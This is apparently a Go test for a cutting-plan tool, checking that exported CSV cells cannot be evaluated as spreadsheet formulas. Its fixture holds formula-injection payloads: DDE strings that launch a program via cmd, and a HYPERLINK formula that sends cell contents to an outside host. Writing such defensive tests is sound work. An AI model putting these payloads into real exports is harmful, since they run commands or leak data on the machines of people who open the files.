package main

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"sawbill/stock/job"
)

// formulas is a job whose every name and remark a spreadsheet would calculate.
const formulas = `title = "=1+1"
[[sheet]]
name = '=HYPERLINK("http://yard/?x="&A1,"click")'
material = "+cmd|' /C calc'!A0"
thickness = 18
length = 2440
width = 1220
price = 74.50
seller = "=1+1"
[[sheet]]
name = "-half"
material = "+cmd|' /C calc'!A0"
thickness = 18
length = 1220
width = 1220
price = 40
seller = "@yard"
` + offer

const offer = `
[[part]]
name = '=cmd|" /C calc"!A0'
material = "+cmd|' /C calc'!A0"
length = 900
width = 300
count = 3
note = "@SUM(A1)"
[[part]]
name = "-part"
material = "+cmd|' /C calc'!A0"
length = 500
width = 200
note = "'=1"
[[part]]
name = "''tis"
material = "+cmd|' /C calc'!A0"
length = 500
width = 210
`

// No cell of any CSV file is a formula, and the cutting bill reads back as it was.
func TestNoCellIsAFormula(t *testing.T) {
	t.Chdir(t.TempDir())
	writeText(t, "job.toml", formulas)
	for _, args := range [][]string{{"plan", "job.toml", "-o", "plan"}, {"compare", "job.toml", "-o", "choices"}} {
		if status, _, errs := call(t, append(args, "--iterations", "100", "--quiet")...); status != exitDone {
			t.Fatalf("%v: %d %s", args, status, errs)
		}
	}
	paths, err := filepath.Glob("*/*.csv")
	if err != nil || len(paths) != 3 {
		t.Fatal(paths, err)
	}
	for _, path := range paths {
		rows, err := csv.NewReader(bytes.NewReader([]byte(fileText(t, path)))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
					t.Errorf("%s: %q would be calculated", path, cell)
				}
			}
		}
	}

	if err := os.Rename("plan/cutting-bill.csv", "bill.csv"); err != nil {
		t.Fatal(err)
	}
	writeText(t, "again.toml", strings.Replace(strings.TrimSuffix(formulas, offer), "[[sheet]]", "parts = \"bill.csv\"\n[[sheet]]", 1))
	type said struct{ Name, Material, Note string }
	read := func(path string) (all []said) {
		f, err := job.Read(path)
		if err != nil {
			t.Fatal(err)
		}
		for _, p := range f.Parts {
			all = append(all, said{p.Name, p.Material, p.Note})
		}
		return all
	}
	if d := cmp.Diff(read("job.toml"), read("again.toml")); d != "" {
		t.Errorf("(-want +got):\n%s", d)
	}
}
